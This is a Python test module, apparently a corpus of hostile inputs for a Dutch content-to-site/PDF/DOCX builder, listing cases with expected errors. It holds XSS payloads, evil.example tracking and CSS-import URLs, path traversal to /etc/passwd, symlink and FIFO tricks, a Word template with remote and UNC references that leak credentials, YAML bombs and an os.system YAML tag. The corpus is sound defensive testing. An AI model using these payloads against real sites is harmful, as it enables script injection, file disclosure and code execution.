"""The corpus of hostile and broken inputs (issue 5).

Every case starts from the minimal valid tree of :mod:`tests.content.tree`, changes some
files (``None`` deletes one) and may run a ``setup`` for what a mapping cannot express
(links, FIFOs, sparse files, a Word template; themes are files under ``themes/huis/``).
The expected outcome is either

* a tuple of :class:`Error` — ``check`` and ``build`` end in exit 1 with exactly these
  errors (file, line, code and field), and ``build`` leaves the previous export as it
  was; or
* :class:`Safe` — the input is legal but dangerous: ``check`` passes, ``build``
  succeeds, and the output channels hold nothing that runs, loads or leaks.

The expected lines were worked out by hand from the file each case writes (the layout of
the base item is in :data:`ITEM_LINES`); in a theme's ``tokens.json`` :func:`theme_error`
finds the line of the token.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from tests.content.tree import ITEM, ORGS, PAKKET, SITE

CATEGORIES = ("injection", "file-access", "parser", "identity")
SECRET = "GEHEIM-c4f1e8"
"""Text of the files outside the content folder: it must appear in no output."""
ITEM_PATH = "items/woningscan.md"
ITEM_LINES = {"id": 2, "title": 3, "summary": 5, "contacts": 8, "extra": 11, "body": 13}
"""Lines of the base item: extra fields go in at line 11 (before ``status``), the body
starts at line 13 and a body payload at line 15 (after the first paragraph)."""
BODY = 15
MIB = 1024 * 1024


@dataclass(frozen=True)
class Error:
    """One expected diagnostic: ``path`` relative to the content folder."""

    code: str
    path: str
    line: int
    field: str = ""


@dataclass(frozen=True)
class Safe:
    """A legal input whose output must be harmless.

    ``shown``: text the item page must still show (escaped, not dropped);
    ``documents``: also build PDF and DOCX and check those channels.
    """

    shown: tuple[str, ...] = ()
    documents: bool = False


Setup = Callable[[Path, Path], None]
"""``setup(content, outside)``: ``outside`` is a folder beside the content folder that
holds ``geheim.txt`` (text :data:`SECRET`) and ``items/woningscan.md`` (a valid item)."""


@dataclass(frozen=True)
class Case:
    id: str
    category: str
    files: dict[str, str | bytes | None]
    expect: tuple[Error, ...] | Safe
    setup: Setup | None = None
    note: str = ""
    markdown: str | None = field(default=None)
    """The Markdown payload, also rendered directly (HTML and DOCX) in the tests: the
    renderers must be safe even if ``check`` were skipped."""


def item(extra: str = "", body: str = "", **replace: str) -> str:
    """The base item with ``extra`` front matter before ``status``, ``body`` appended as a
    new paragraph, and ``old=new`` replacements (keys: title, summary, label, phone)."""
    text = ITEM
    originals = {
        "title": "title: Woningscan",
        "summary": "summary: Een korte inleiding.",
        "label": "label: Team",
        "phone": "phone: 070-3738314",
        "id": "id: woningscan",
        "kind": "kind: scan",
    }
    for key, new in replace.items():
        assert originals[key] in text
        text = text.replace(originals[key], new)
    text = text.replace("status: gepubliceerd\n", extra + "status: gepubliceerd\n")
    return text + ("\n" + body if body else "")


def body_case(case_id: str, payload: str, expect: tuple[Error, ...] | Safe, note: str = "") -> Case:
    """A case whose payload is a Markdown paragraph in the item body (line 15)."""
    return Case(
        case_id,
        "injection",
        {ITEM_PATH: item(body=payload)},
        expect,
        note=note,
        markdown=payload,
    )


def body_error(code: str, line: int = BODY) -> tuple[Error, ...]:
    return (Error(code, ITEM_PATH, line, "body"),)


def _document(path: str) -> str:
    return f"documents:\n  - title: Factsheet\n    path: '{path}'\n"


DOC_PATH_LINE = 13
"""Line of ``path:`` in :func:`_document` (extra front matter starts at line 11)."""


def doc_error(code: str) -> tuple[Error, ...]:
    return (Error(code, ITEM_PATH, DOC_PATH_LINE, "documents[0].path"),)


# --------------------------------------------------------------------------- setups


def _link(name: str, target: str | Callable[[Path, Path], Path]) -> Setup:
    """Make ``content/<name>`` a symbolic link to ``target`` (a fixed path, or one made
    from the content and outside folders)."""

    def setup(content: Path, outside: Path) -> None:
        path = content / name
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target(content, outside) if callable(target) else target, path)

    return setup


def _loop(first: str, second: str) -> Setup:
    """Two links that point at each other."""

    def setup(content: Path, outside: Path) -> None:
        _link(first, Path(second).name)(content, outside)
        _link(second, Path(first).name)(content, outside)

    return setup


def _fifo(name: str) -> Setup:
    def setup(content: Path, outside: Path) -> None:
        path = content / name
        path.parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(path)

    return setup


def _sparse(name: str, size: int) -> Setup:
    def setup(content: Path, outside: Path) -> None:
        path = content / name
        path.parent.mkdir(parents=True, exist_ok=True)
        with open(path, "wb") as handle:
            handle.truncate(size)

    return setup


def _folder(name: str) -> Setup:
    def setup(content: Path, outside: Path) -> None:
        (content / name).mkdir(parents=True, exist_ok=True)

    return setup


def _move_items_out(content: Path, outside: Path) -> None:
    """``content/items`` becomes a link to a folder outside the content."""
    (content / "items" / "woningscan.md").unlink()
    (content / "items").rmdir()
    os.symlink(outside / "items", content / "items")


def hostile_template(path: Path) -> None:
    """A Word template whose package makes Word call other hosts: a remote attached
    template, an external image in the header and a UNC image (credential leak)."""
    import docx
    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    from docx.oxml import parse_xml
    from docx.oxml.ns import nsdecls

    attached = (
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    )
    document = docx.Document()
    settings = document.part._settings_part
    rid = settings.relate_to("https://evil.example/remote.dotm", attached, is_external=True)
    settings.element.append(parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{rid}"/>'))
    header = document.sections[0].header
    header.paragraphs[0].text = "Kop"
    header.part.relate_to("https://evil.example/pixel.png", RT.IMAGE, is_external=True)
    document.part.relate_to("\\\\evil.example\\share\\logo.png", RT.IMAGE, is_external=True)
    document.part.relate_to("javascript:alert(1)", RT.HYPERLINK, is_external=True)
    path.parent.mkdir(parents=True, exist_ok=True)
    document.save(str(path))


def _hostile_template(content: Path, outside: Path) -> None:
    hostile_template(content / "sjablonen" / "huisstijl.docx")


VIEW = "views:\n  - id: {id}\n    title: {title}\n    audiences: [burgemeester]\n"
"""A view in site.yaml (lines 5-8: ``views:`` at 5, ``id`` at 6)."""

# --------------------------------------------------------------------------- themes

THEME = "themes/huis/tokens.json"
SVG_OPEN = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'width="40" height="20">'
)
SAFE_SVG = (
    '<?xml version="1.0" encoding="utf-8"?>\n'
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    f"{SVG_OPEN}<style>.a{{fill:url(#g);}}</style>"
    '<defs><linearGradient id="g"><stop offset="0" stop-color="#154273"/></linearGradient>'
    '</defs><rect class="a" width="40" height="20"/><use xlink:href="#g"/></svg>\n'
)
"""A logo as Illustrator exports it: public DTD, stylesheet, gradient, internal use."""


def theme_case(
    case_id: str,
    category: str,
    tokens: dict[str, object],
    expect: tuple[Error, ...] | Safe,
    files: dict[str, str | bytes | None] | None = None,
    setup: Setup | None = None,
    note: str = "",
) -> Case:
    """The site in theme ``huis`` (``content/themes/huis/``) with these design tokens."""
    return Case(
        case_id,
        category,
        {
            "site.yaml": SITE + "theme: huis\n",
            THEME: json.dumps(tokens, indent=2) + "\n",
            **{f"themes/huis/{name}": data for name, data in (files or {}).items()},
        },
        expect,
        setup=setup,
        note=note,
    )


def logo(file: str = "logo.svg") -> dict[str, object]:
    return {"$extensions": {"nl.pakketbuild": {"logo": {"file": file, "alt": "Logo"}}}}


def font(file: str) -> dict[str, object]:
    entry = {"family": "Huis Sans", "file": file}
    return {"$extensions": {"nl.pakketbuild": {"fonts": [entry]}}}


def _restricted_font() -> bytes:
    """The house mono font with its licence bits set to "restricted licence"."""
    import io

    from fontTools.ttLib import TTFont

    from pakketbuild.writers.fonts import MONO

    font = TTFont(MONO.faces[0].path)
    font["OS/2"].fsType = 0x0002
    out = io.BytesIO()
    font.save(out)
    return out.getvalue()


def theme_error(code: str, tokens: dict[str, object], needle: str, field: str) -> Error:
    """An error in the theme's tokens.json on the line that holds ``needle``."""
    text = json.dumps(tokens, indent=2)
    line = next(n for n, row in enumerate(text.splitlines(), start=1) if needle in row)
    return Error(code, THEME, line, field)


def svg_case(case_id: str, category: str, svg: str, note: str = "") -> Case:
    return theme_case(
        case_id,
        category,
        logo(),
        (theme_error("unsafe-svg", logo(), '"file"', "logo.file"),),
        files={"logo.svg": svg},
        note=note,
    )


def color(value: str) -> dict[str, object]:
    return {"color": {"$type": "color", "text": {"$value": value}}}


# --------------------------------------------------------------------------- injection

JS = "javascript:alert(1)"

INJECTION: list[Case] = [
    body_case("script-element", "<script>alert(1)</script>\n", body_error("raw-html")),
    body_case("script-inline", "Tekst <script>alert(1)</script> einde.\n", body_error("raw-html")),
    body_case("event-handler-img", "<img src=x onerror=alert(1)>\n", body_error("raw-html")),
    body_case(
        "event-handler-div", '<div onmouseover="alert(1)">tekst</div>\n', body_error("raw-html")
    ),
    body_case("svg-script", "<svg><script>alert(1)</script></svg>\n", body_error("raw-html")),
    body_case(
        "svg-onload-disguised",
        "Tekst <svg/onload=alert(1)> einde.\n",
        Safe(shown=("<svg/onload=alert(1)>",)),
        note="not a tag to CommonMark (a browser would read one): escaped, shown as text",
    ),
    body_case("iframe", '<iframe src="https://evil.example/"></iframe>\n', body_error("raw-html")),
    body_case(
        "object-embed",
        '<object data="https://evil.example/x.swf"><embed src="x.swf"></object>\n',
        body_error("raw-html"),
    ),
    body_case(
        "style-import",
        "<style>@import url(https://evil.example/x.css);</style>\n",
        body_error("raw-html"),
    ),
    body_case(
        "style-attribute-url",
        '<p style="background:url(https://evil.example/p.gif)">tekst</p>\n',
        body_error("raw-html"),
    ),
    body_case("js-link", f"[klik]({JS})\n", body_error("unsafe-link")),
    body_case("js-link-mixed-case", "[klik](JaVaScRiPt:alert(1))\n", body_error("unsafe-link")),
    body_case(
        "js-link-entity",
        "[klik](jav&#x61;script:alert(1))\n",
        body_error("unsafe-link"),
        note="markdown-it decodes entities before validateLink: the decoded URL is judged",
    ),
    body_case(
        "js-link-named-entity", "[klik](javascript&colon;alert(1))\n", body_error("unsafe-link")
    ),
    body_case(
        "js-link-all-entities",
        "[klik](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))\n",
        body_error("unsafe-link"),
    ),
    body_case(
        "js-link-leading-space", "[klik](< javascript:alert(1)>)\n", body_error("unsafe-link")
    ),
    body_case("js-link-inner-space", "[klik](<java script:alert(1)>)\n", body_error("unsafe-link")),
    body_case(
        "js-link-tab",
        "[klik](java\tscript:alert(1))\n",
        Safe(shown=("[klik](java",)),
        note="a tab ends the destination: not a link at all, shown as text",
    ),
    body_case(
        "js-link-control-character",
        "[klik](java\x0bscript:alert(1))\n",
        body_error("invisible-character", ITEM_LINES["body"]),
    ),
    body_case("js-autolink", "<javascript:alert(1)>\n", body_error("unsafe-link")),
    body_case("js-reference-link", f"[klik][r]\n\n[r]: {JS}\n", body_error("unsafe-link")),
    body_case("vbscript-link", "[klik](vbscript:msgbox(1))\n", body_error("unsafe-link")),
    body_case(
        "data-link",
        "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n",
        body_error("unsafe-link"),
    ),
    body_case("data-link-entity", "[klik](&#100;ata:text/html,x)\n", body_error("unsafe-link")),
    body_case("file-link", "[klik](file:///etc/passwd)\n", body_error("unsafe-link")),
    body_case("http-link", "[klik](http://evil.example/)\n", body_error("unsafe-link")),
    body_case("protocol-relative-link", "[klik](//evil.example/x)\n", body_error("unsafe-link")),
    body_case(
        "href-quote-breakout",
        '[klik](https://voorbeeld.nl/"onmouseover="alert(1))\n',
        Safe(shown=("klik",)),
    ),
    body_case(
        "title-quote-breakout",
        '[klik](https://voorbeeld.nl "\\" onmouseover=\\"alert(1)")\n',
        Safe(shown=("klik",)),
    ),
    body_case(
        "fragment-quote-breakout", '[klik](#"onmouseover="alert(1))\n', Safe(shown=("klik",))
    ),
    body_case(
        "code-block-script",
        "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```\n",
        Safe(shown=("<script>alert(1)</script>",)),
    ),
    body_case(
        "table-cell-css",
        "| kolom |\n|:-----:|\n| url(https://evil.example/p.gif) expression(alert(1)) |\n",
        Safe(shown=("url(https://evil.example/p.gif)",)),
        note="only the alignment row reaches a style attribute, filtered to text-align",
    ),
    body_case(
        "tracking-pixel", "![](https://tracker.example/p.gif)\n", body_error("image-not-allowed")
    ),
    body_case(
        "tracking-pixel-reference",
        "![pixel][p]\n\n[p]: https://tracker.example/p.gif\n",
        body_error("image-not-allowed"),
    ),
    body_case(
        "tracking-pixel-in-link",
        "[![x](https://tracker.example/p.gif)](https://voorbeeld.nl)\n",
        body_error("image-not-allowed"),
    ),
    Case(
        "html-in-title",
        "injection",
        {ITEM_PATH: item(title="title: '</title><script>alert(1)</script>'")},
        Safe(shown=("</title><script>alert(1)</script>",), documents=True),
    ),
    Case(
        "html-in-summary",
        "injection",
        {ITEM_PATH: item(summary="summary: '<img src=x onerror=alert(1)> & <!-- x'")},
        Safe(shown=("<img src=x onerror=alert(1)> & <!-- x",)),
    ),
    Case(
        "html-in-contact",
        "injection",
        {
            ITEM_PATH: item(
                label="label: '<a href=\"javascript:alert(1)\">Team</a>'",
                phone="phone: 070-3738314\n    hours: '<script>alert(1)</script>'",
            )
        },
        Safe(shown=('<a href="javascript:alert(1)">Team</a>',), documents=True),
    ),
    Case(
        "html-in-organisation",
        "injection",
        {
            "organisaties.yaml": "organisations:\n  - id: nwb\n"
            "    name: '<script>alert(1)</script>'\n    abbreviation: '<b onclick=alert(1)>'\n"
        },
        Safe(shown=("<script>alert(1)</script>",), documents=True),
    ),
    Case(
        "json-ld-breakout",
        "injection",
        {
            ITEM_PATH: item(
                title="title: '</script><script>alert(1)</script>'",
                summary="summary: '<!--<script>alert(2)</script>'",
            )
        },
        Safe(shown=("</script><script>alert(1)</script>",)),
    ),
    Case(
        "html-in-site-title",
        "injection",
        {"site.yaml": SITE.replace("title: Testsite", "title: '<script>alert(1)</script>'")},
        Safe(),
    ),
    Case(
        "html-in-pakket-title",
        "injection",
        {
            "pakketten/pakket.md": PAKKET.replace(
                "title: Een pakket", "title: '<img src=x onerror=alert(1)>'"
            )
        },
        Safe(documents=True),
    ),
    Case(
        "html-in-step-title",
        "injection",
        {
            ITEM_PATH: item(
                "steps:\n  - title: '<script>alert(1)</script>'\n    text: '**vet** [link](https://voorbeeld.nl)'\n",
                kind="kind: step-plan",
            )
        },
        Safe(shown=("<script>alert(1)</script>",), documents=True),
    ),
    Case(
        "js-link-in-step-text",
        "injection",
        {ITEM_PATH: item(f"steps:\n  - title: Stap\n    text: '[klik]({JS})'\n")},
        (Error("unsafe-link", ITEM_PATH, 13, "steps[0].text"),),
        markdown=f"[klik]({JS})",
    ),
    Case(
        "raw-html-in-intro",
        "injection",
        {"pakketten/pakket.md": PAKKET + "\n<script>alert(1)</script>\n"},
        (Error("raw-html", "pakketten/pakket.md", 10, "intro"),),
        markdown="<script>alert(1)</script>\n",
    ),
    Case(
        "js-url-in-contact",
        "injection",
        {ITEM_PATH: item(phone=f"url: '{JS}'")},
        (Error("insecure-url", ITEM_PATH, 10, "contacts[0].url"),),
    ),
    Case(
        "data-url-in-document",
        "injection",
        {
            ITEM_PATH: item(
                "documents:\n  - title: Doc\n    url: 'data:text/html,<script>alert(1)</script>'\n"
            )
        },
        (Error("insecure-url", ITEM_PATH, 13, "documents[0].url"),),
    ),
    Case(
        "js-url-in-organisation",
        "injection",
        {"organisaties.yaml": ORGS + "    url: 'JAVASCRIPT:alert(1)'\n"},
        (Error("insecure-url", "organisaties.yaml", 4, "organisations[0].url"),),
    ),
    Case(
        "js-base-url",
        "injection",
        {"site.yaml": SITE + "base_url: 'javascript://voorbeeld.nl/%0Aalert(1)'\n"},
        (Error("insecure-url", "site.yaml", 5, "base_url"),),
    ),
    Case(
        "html-in-email",
        "injection",
        {ITEM_PATH: item(phone="email: '\"<script>\"@voorbeeld.nl'")},
        (Error("invalid-email", ITEM_PATH, 10, "contacts[0].email"),),
    ),
    Case(
        "html-in-phone",
        "injection",
        {ITEM_PATH: item(phone="phone: '070-3738314<script>'")},
        (Error("invalid-phone", ITEM_PATH, 10, "contacts[0].phone"),),
    ),
    Case(
        "entities-in-url",
        "injection",
        {ITEM_PATH: item(phone="url: 'https://voorbeeld.nl/?a=&#x22;onmouseover=alert(1)'")},
        Safe(shown=("https://voorbeeld.nl/?a=&#x22;onmouseover=alert(1)",), documents=True),
    ),
    svg_case(
        "theme-svg-script",
        "injection",
        f"{SVG_OPEN}<script>alert(document.cookie)</script></svg>",
        note="published as assets/theme/logo.svg: opened on its own it ran with the "
        "site's origin (stored XSS)",
    ),
    svg_case(
        "theme-svg-onload",
        "injection",
        SVG_OPEN.replace("<svg ", '<svg onload="alert(1)" ') + "</svg>",
    ),
    svg_case(
        "theme-svg-link",
        "injection",
        f'{SVG_OPEN}<a href="javascript:alert(1)"><rect width="9" height="9"/></a></svg>',
    ),
    svg_case(
        "theme-svg-animation",
        "injection",
        f'{SVG_OPEN}<a><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
    ),
    svg_case(
        "theme-svg-foreign-object",
        "injection",
        f'{SVG_OPEN}<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" '
        'src="https://evil.example/"/></foreignObject></svg>',
    ),
    svg_case(
        "theme-svg-tracking-pixel",
        "injection",
        f'{SVG_OPEN}<image xlink:href="https://tracker.example/p.gif" width="1" height="1"/></svg>',
    ),
    svg_case(
        "theme-svg-css-import",
        "injection",
        f"{SVG_OPEN}<style>@import url(https://evil.example/x.css);</style></svg>",
    ),
    svg_case(
        "theme-svg-css-url",
        "injection",
        f'{SVG_OPEN}<rect style="fill:url(https://tracker.example/p.gif)" width="9"/></svg>',
    ),
    svg_case(
        "theme-svg-stylesheet-instruction",
        "injection",
        '<?xml-stylesheet href="https://evil.example/x.css"?>' + SVG_OPEN + "</svg>",
    ),
    theme_case(
        "theme-css-in-colour",
        "injection",
        color("#000; } body { background: url(https://evil.example/p.gif) }"),
        (theme_error("invalid-theme", color("x"), '"$value"', "color.text"),),
    ),
    theme_case(
        "theme-css-in-font-family",
        "injection",
        {
            "font": {
                "family": {
                    "body": {"$value": 'Arial"; } @import url(https://evil.example/x.css); {'}
                }
            }
        },
        (
            theme_error(
                "invalid-theme",
                {"font": {"family": {"body": {"$value": ""}}}},
                '"$value"',
                "font.family.body",
            ),
            # The built-in heading font is an alias of the body font: reported too, at the
            # start of the file (the alias lives in the built-in theme, not in this file).
            Error("invalid-theme", THEME, 1, "font.family.heading"),
        ),
    ),
    theme_case(
        "theme-css-in-spacing",
        "injection",
        {"spacing": {"radius": {"$value": "1px; background: url(https://evil.example/p.gif)"}}},
        (
            theme_error(
                "invalid-theme",
                {"spacing": {"radius": {"$value": ""}}},
                '"$value"',
                "spacing.radius",
            ),
        ),
    ),
    body_case(
        "passage-label-html",
        "::: alleen-voor <script>alert(1)</script>\nTekst.\n:::\n",
        body_error("unknown-audience"),
    ),
    body_case(
        "passage-label-handler",
        "::: alleen-voor raadslid onmouseover=alert(1)\nTekst.\n:::\n",
        body_error("unknown-audience"),
    ),
    Case(
        "html-in-view-title",
        "injection",
        {"site.yaml": SITE + VIEW.format(id="burgemeesters", title="'<script>alert(1)</script>'")},
        Safe(documents=True),
    ),
    Case(
        "html-in-withdrawn",
        "injection",
        {
            "withdrawn.yaml": "withdrawn:\n  - id: oud\n    date: 2026-01-01\n"
            "    title: '<script>alert(1)</script>'\n    reason: '</at:comment><x>]]>'\n"
        },
        Safe(shown=("<script>alert(1)</script>",)),
        note="tombstone pages, JSON and Atom tombstones (RFC 6721)",
    ),
    theme_case(
        "theme-plain-svg-logo",
        "injection",
        logo(),
        Safe(documents=True),
        files={"logo.svg": SAFE_SVG},
        note="a harmless exported logo (public DTD, stylesheet, gradient) passes",
    ),
]

# --------------------------------------------------------------------------- file access

FILE_ACCESS: list[Case] = [
    Case(
        "doc-path-dot-dot",
        "file-access",
        {ITEM_PATH: item(_document("../geheim.txt"))},
        doc_error("path-outside-content"),
    ),
    Case(
        "doc-path-inner-dot-dot",
        "file-access",
        {ITEM_PATH: item(_document("documenten/../../geheim.txt"))},
        doc_error("path-outside-content"),
    ),
    Case(
        "doc-path-absolute",
        "file-access",
        {ITEM_PATH: item(_document("/etc/passwd"))},
        doc_error("path-outside-content"),
    ),
    Case(
        "doc-path-file-url",
        "file-access",
        {ITEM_PATH: item(_document("file:///etc/passwd"))},
        doc_error("path-outside-content"),
    ),
    Case(
        "doc-path-windows",
        "file-access",
        {ITEM_PATH: item(_document("C:\\Windows\\win.ini"))},
        doc_error("path-outside-content"),
    ),
    Case(
        "doc-path-unc",
        "file-access",
        {ITEM_PATH: item(_document("\\\\server\\share\\x.pdf"))},
        doc_error("path-outside-content"),
    ),
    Case(
        "doc-path-dev-zero",
        "file-access",
        {ITEM_PATH: item(_document("/dev/zero"))},
        doc_error("path-outside-content"),
    ),
    Case(
        "doc-url-file",
        "file-access",
        {ITEM_PATH: item("documents:\n  - title: Doc\n    url: 'file:///etc/passwd'\n")},
        (Error("insecure-url", ITEM_PATH, 13, "documents[0].url"),),
    ),
    Case(
        "doc-symlink-out",
        "file-access",
        {ITEM_PATH: item(_document("documenten/doc.txt"))},
        doc_error("path-outside-content"),
        setup=_link("documenten/doc.txt", lambda c, o: o / "geheim.txt"),
    ),
    Case(
        "doc-symlink-folder-out",
        "file-access",
        {ITEM_PATH: item(_document("documenten/geheim.txt"))},
        doc_error("path-outside-content"),
        setup=_link("documenten", lambda c, o: o),
    ),
    Case(
        "doc-symlink-dev-zero",
        "file-access",
        {ITEM_PATH: item(_document("documenten/nul.bin"))},
        doc_error("path-outside-content"),
        setup=_link("documenten/nul.bin", "/dev/zero"),
    ),
    Case(
        "doc-symlink-dangling",
        "file-access",
        {ITEM_PATH: item(_document("documenten/weg.pdf"))},
        doc_error("missing-file"),
        setup=_link("documenten/weg.pdf", "nergens.pdf"),
        note="was a FileNotFoundError traceback",
    ),
    Case(
        "doc-symlink-loop",
        "file-access",
        {ITEM_PATH: item(_document("documenten/a.pdf"))},
        doc_error("missing-file"),
        setup=_loop("documenten/a.pdf", "documenten/b.pdf"),
        note="was a RuntimeError (symlink loop) traceback",
    ),
    Case(
        "doc-fifo",
        "file-access",
        {ITEM_PATH: item(_document("documenten/pijp"))},
        doc_error("not-a-file"),
        setup=_fifo("documenten/pijp"),
    ),
    Case(
        "doc-folder",
        "file-access",
        {ITEM_PATH: item(_document("documenten"))},
        doc_error("not-a-file"),
        setup=_folder("documenten"),
    ),
    Case(
        "doc-too-large",
        "file-access",
        {ITEM_PATH: item(_document("documenten/groot.pdf"))},
        doc_error("file-too-large"),
        setup=_sparse("documenten/groot.pdf", 50 * MIB + 1),
    ),
    Case(
        "item-symlink-out",
        "file-access",
        {},
        (Error("path-outside-content", "items/elders.md", 1),),
        setup=_link("items/elders.md", lambda c, o: o / "items" / "woningscan.md"),
    ),
    Case(
        "items-folder-symlink-out",
        "file-access",
        {},
        (Error("path-outside-content", ITEM_PATH, 1),),
        setup=_move_items_out,
        note="a linked folder was read without a word: only linked files were checked",
    ),
    Case(
        "site-symlink-dev-zero",
        "file-access",
        {"site.yaml": None},
        (Error("path-outside-content", "site.yaml", 1),),
        setup=_link("site.yaml", "/dev/zero"),
    ),
    Case(
        "item-fifo",
        "file-access",
        {},
        (Error("not-a-file", "items/pijp.md", 1),),
        setup=_fifo("items/pijp.md"),
    ),
    Case(
        "item-symlink-dangling",
        "file-access",
        {},
        (Error("unreadable-file", "items/weg.md", 1),),
        setup=_link("items/weg.md", "nergens.md"),
        note="was a FileNotFoundError traceback",
    ),
    Case(
        "unreferenced-fifo",
        "file-access",
        {},
        Safe(),
        setup=_fifo("documenten/pijp"),
        note="the build hashed every file and blocked forever opening the FIFO",
    ),
    Case(
        "unreferenced-dev-zero-link",
        "file-access",
        {},
        (Error("path-outside-content", "nul", 1),),
        setup=_link("nul", "/dev/zero"),
        note="the build hashed every file and read /dev/zero forever; later it was legal "
        "as long as nothing read it, now every link out of the content folder is refused",
    ),
    Case(
        "unreferenced-link-out",
        "file-access",
        {},
        (Error("path-outside-content", "documenten/geheim.txt", 1),),
        setup=_link("documenten/geheim.txt", lambda c, o: o / "geheim.txt"),
        note="was legal while nothing named it (issue 22: a link nobody reads is where a "
        "later write lands)",
    ),
    Case(
        "dot-file-link-out",
        "file-access",
        {},
        (Error("path-outside-content", "items/.woningscan.md.cms-tmp", 1),),
        setup=_link("items/.woningscan.md.cms-tmp", lambda c, o: o / "geheim.txt"),
        note="the editor's old temporary name as a link out: check and build passed, and "
        "the next save in the browser wrote through it (issue 22)",
    ),
    Case(
        "dangling-link-out",
        "file-access",
        {},
        (Error("path-outside-content", ".githooks/pre-commit", 1),),
        setup=_link(".githooks/pre-commit", lambda c, o: o / "bestaat-nog-niet"),
        note="a link to nothing outside (a write would create the file there), in a dot-folder",
    ),
    Case(
        "folder-link-out-unread",
        "file-access",
        {},
        (Error("path-outside-content", "extra", 1),),
        setup=_link("extra", lambda c, o: o),
        note="a linked folder nothing reads",
    ),
    Case(
        "dangling-link-inside",
        "file-access",
        {},
        Safe(),
        setup=_link("documenten/weg.pdf", "nergens.pdf"),
        note="a link to nothing inside the content folder leads nowhere else: legal",
    ),
    Case(
        "link-inside",
        "file-access",
        {},
        Safe(),
        setup=_link("documenten/site.yaml", lambda c, o: c / "site.yaml"),
        note="a link that stays inside the content folder is legal",
    ),
    Case(
        "template-dot-dot",
        "file-access",
        {"site.yaml": SITE + "docx_template: ../huisstijl.docx\n"},
        (Error("path-outside-content", "site.yaml", 5, "docx_template"),),
    ),
    Case(
        "template-symlink-out",
        "file-access",
        {"site.yaml": SITE + "docx_template: sjablonen/huisstijl.docx\n"},
        (Error("path-outside-content", "site.yaml", 5, "docx_template"),),
        setup=_link("sjablonen/huisstijl.docx", lambda c, o: o / "geheim.txt"),
        note="check passed; only the build refused it",
    ),
    Case(
        "template-external-references",
        "file-access",
        {"site.yaml": SITE + "docx_template: sjablonen/huisstijl.docx\n"},
        Safe(documents=True),
        setup=_hostile_template,
        note="the template's remote attachedTemplate and external images reached the output",
    ),
    svg_case(
        "theme-svg-file-image",
        "file-access",
        f'{SVG_OPEN}<image href="file:///etc/passwd" width="1" height="1"/></svg>',
    ),
    svg_case(
        "theme-svg-external-entity",
        "file-access",
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f"{SVG_OPEN}<text>&x;</text></svg>",
    ),
    theme_case(
        "theme-font-dot-dot",
        "file-access",
        font("../../../buiten/geheim.ttf"),
        (theme_error("path-outside-content", font(""), '"file"', ""),),
    ),
    theme_case(
        "theme-font-symlink-out",
        "file-access",
        font("fonts/huis.ttf"),
        (theme_error("path-outside-content", font(""), '"file"', ""),),
        setup=_link("themes/huis/fonts/huis.ttf", lambda c, o: o / "geheim.txt"),
    ),
    theme_case(
        "theme-logo-fifo",
        "file-access",
        logo("logo.png"),
        (theme_error("not-a-file", logo(), '"file"', ""),),
        setup=_fifo("themes/huis/logo.png"),
    ),
    theme_case(
        "theme-font-not-a-font",
        "file-access",
        font("fonts/huis.ttf"),
        (theme_error("invalid-theme", font(""), '"file"', ""),),
        files={"fonts/huis.ttf": "<script>alert(1)</script>"},
    ),
    theme_case(
        "theme-font-damaged",
        "file-access",
        font("fonts/huis.ttf"),
        (theme_error("invalid-theme", font(""), '"file"', ""),),
        files={"fonts/huis.ttf": b"\x00\x01\x00\x00" + b"\xff" * 200},
        note="a TrueType signature and nothing usable behind it",
    ),
    theme_case(
        "theme-font-restricted-licence",
        "file-access",
        font("fonts/huis.ttf"),
        (theme_error("invalid-theme", font(""), '"file"', ""),),
        files={"fonts/huis.ttf": _restricted_font()},
        note="OS/2 fsType 0x0002: the documents would embed a font that may not be embedded",
    ),
]

# --------------------------------------------------------------------------- parser abuse


def _alias_bomb(indent: str = "") -> str:
    lines = [f"{indent}a: &a [x,x,x,x,x,x,x,x,x,x]"]
    for name, prev in zip("bcdef", "abcde", strict=True):
        lines.append(f"{indent}{name}: &{name} [" + ",".join([f"*{prev}"] * 10) + "]")
    return "\n".join(lines) + "\n"


def _deep_block(levels: int) -> str:
    return (
        "owner:\n"
        + "".join(f"{'  ' * (i + 1)}k{i}:\n" for i in range(levels))
        + ("  " * (levels + 1) + "x: 1\n")
    )


PARSER: list[Case] = [
    Case(
        "yaml-alias-bomb",
        "parser",
        {"organisaties.yaml": _alias_bomb()},
        (Error("yaml-too-large", "organisaties.yaml", 1),),
    ),
    Case(
        "yaml-alias-bomb-front-matter",
        "parser",
        {ITEM_PATH: item(_alias_bomb())},
        (Error("yaml-too-large", ITEM_PATH, 11),),
    ),
    Case(
        "yaml-recursive-alias",
        "parser",
        {ITEM_PATH: item("owner: &a [*a]\n")},
        (Error("yaml-too-deep", ITEM_PATH, 11),),
    ),
    Case(
        "yaml-deep-flow",
        "parser",
        {ITEM_PATH: item("owner: " + "[" * 1000 + "]" * 1000 + "\n")},
        (Error("yaml-too-deep", ITEM_PATH, 11),),
    ),
    Case(
        "yaml-deep-block",
        "parser",
        {ITEM_PATH: item(_deep_block(60))},
        (Error("yaml-too-deep", ITEM_PATH, 52),),
    ),
    Case(
        "yaml-python-tag",
        "parser",
        {ITEM_PATH: item('owner: !!python/object/apply:os.system ["touch /tmp/pwned"]\n')},
        (Error("yaml-tag", ITEM_PATH, 11),),
    ),
    Case(
        "yaml-local-tag",
        "parser",
        {ITEM_PATH: item("owner: !include /etc/passwd\n")},
        (Error("yaml-tag", ITEM_PATH, 11),),
    ),
    Case(
        "yaml-merge-key",
        "parser",
